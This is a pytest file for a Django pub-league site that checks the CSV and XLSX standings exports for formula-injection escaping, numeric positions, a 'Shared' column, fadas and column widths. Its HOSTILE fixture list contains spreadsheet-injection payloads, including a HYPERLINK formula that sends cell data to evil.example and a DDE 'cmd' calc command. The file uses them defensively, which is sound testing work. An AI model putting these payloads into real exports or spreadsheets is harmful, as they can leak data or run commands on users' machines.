"""The standings downloads: names that look like formulas stay text, positions are
numbers with a separate "Shared" column, the CSV opens in Excel with its fadas."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import FixtureFactory, PubFactory, SeasonFactory, TeamFactory, win_game

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+353 Club",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\tTabbed",
    "\rReturned",
]


@pytest.fixture
def season(db):
    """One team ahead; it beat two hostile names (level on 5th); the other four
    have not played (level on 2nd)."""
    season = SeasonFactory(name="Winter", slug="winter", league__slug="clare")
    pub = PubFactory(league=season.league, name="Tigh Ó Súilleabháin")
    leader = TeamFactory(season=season, pub=pub, name="Seán's Aces")
    level = [TeamFactory(season=season, pub=pub, name=name) for name in HOSTILE[:2]]
    for team in level:
        fixture = FixtureFactory(season=season, pub=pub, teams=[leader, team])
        win_game(season=season, winner=leader, loser=team, fixture=fixture)
    for name in HOSTILE[2:]:
        TeamFactory(season=season, pub=pub, name=name)
    return season


def download(client, season, fmt):
    url = reverse("league:standings-download", args=["clare", season.slug, "teams", fmt])
    response = client.get(url)
    assert response.status_code == 200
    return response


def test_the_csv_starts_with_a_bom_and_neutralises_every_formula(client, season):
    response = download(client, season, "csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:], newline="")))
    header, body = rows[0], rows[1:]
    names = {row[header.index("Team")] for row in body}
    assert {f"'{name}" for name in HOSTILE} <= names
    assert "Seán's Aces" in names
    assert "Tigh Ó Súilleabháin" in {row[header.index("Pub")] for row in body}
    for row in body:
        assert not row[header.index("Team")].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_csv_writes_positions_as_plain_numbers_and_says_which_are_shared(client, season):
    rows = list(
        csv.DictReader(io.StringIO(download(client, season, "csv").content.decode("utf-8-sig")))
    )
    by_name = {row["Team"]: row for row in rows}
    assert by_name["Seán's Aces"]["Pos"] == "1"
    assert by_name["Seán's Aces"]["Shared"] == ""
    assert by_name["'@SUM(1)"]["Pos"] == "2"
    assert by_name["'@SUM(1)"]["Shared"] == "yes"
    assert by_name["'@SUM(1)"]["Diff"] == "0"
    assert all(not row["Pos"].startswith("=") for row in rows)


def test_the_xlsx_keeps_names_as_text_and_numbers_as_numbers(client, season):
    content = download(client, season, "xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Pos", "Team", "Pts"] and header[-1] == "Shared"
    team_col, pos_col = header.index("Team"), header.index("Pos")
    # XML keeps a carriage return as a newline.
    rows = {row[team_col].value.replace("\n", "\r"): row for row in sheet.iter_rows(min_row=2)}
    assert set(HOSTILE) | {"Seán's Aces"} == set(rows)
    for name in HOSTILE:
        assert rows[name][team_col].data_type == "s", name
    leader = rows["Seán's Aces"]
    assert leader[pos_col].value == 1 and leader[pos_col].data_type == "n"
    assert leader[header.index("Pts")].value == 4
    assert (
        leader[header.index("Diff")].value == 40 and leader[header.index("Diff")].data_type == "n"
    )
    assert leader[header.index("Shared")].value is None
    second = rows["@SUM(1)"]
    assert second[pos_col].value == 2 and second[pos_col].data_type == "n"
    assert second[header.index("Shared")].value == "yes"


def test_the_xlsx_of_players_has_numbers_too(client, season):
    url = reverse("league:standings-download", args=["clare", season.slug, "players", "xlsx"])
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url).content)).active
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        assert row[header.index("Games")].data_type == "n"
        assert row[header.index("Win %")].data_type == "n"


def test_the_xlsx_opens_with_its_header_frozen_and_columns_wide_enough(client, season):
    # Opened in Excel, every column was the default 8.43 characters: "Tigh Ó
    # Súilleabháin" and the team names ran into the next cell, and the header scrolled
    # away with the rows.
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, season, "xlsx").content)).active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    for name in ("Team", "Pub"):
        letter = openpyxl.utils.get_column_letter(header.index(name) + 1)
        longest = max(len(str(cell.value or "")) for cell in sheet[letter])
        assert sheet.column_dimensions[letter].width >= longest, name


def test_the_player_files_list_the_players_not_yet_ranked_after_the_rest(client, season):
    # With a minimum of games, the files held only the ranked: a secretary who sent the
    # spreadsheet round left out every player the page lists under "Not yet ranked".
    season.min_games = 2
    season.save()
    page = client.get(reverse("league:standings-players", args=["clare", season.slug]))
    unranked = {p["name"] for p in page.context["others"]}
    assert len(unranked) == 4  # the players of the two teams that played once

    url = reverse("league:standings-download", args=["clare", season.slug, "players", "csv"])
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8")[1:])))
    header, body = rows[0], rows[1:]
    positions = [row[header.index("Pos")] for row in body]
    assert positions == ["1", "1", "", "", "", ""]
    assert {row[header.index("Player")] for row in body[2:]} == unranked
    assert {row[header.index("Games")] for row in body[2:]} == {"1"}

    url = reverse("league:standings-download", args=["clare", season.slug, "players", "xlsx"])
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url).content)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [1, 1, None, None, None, None]
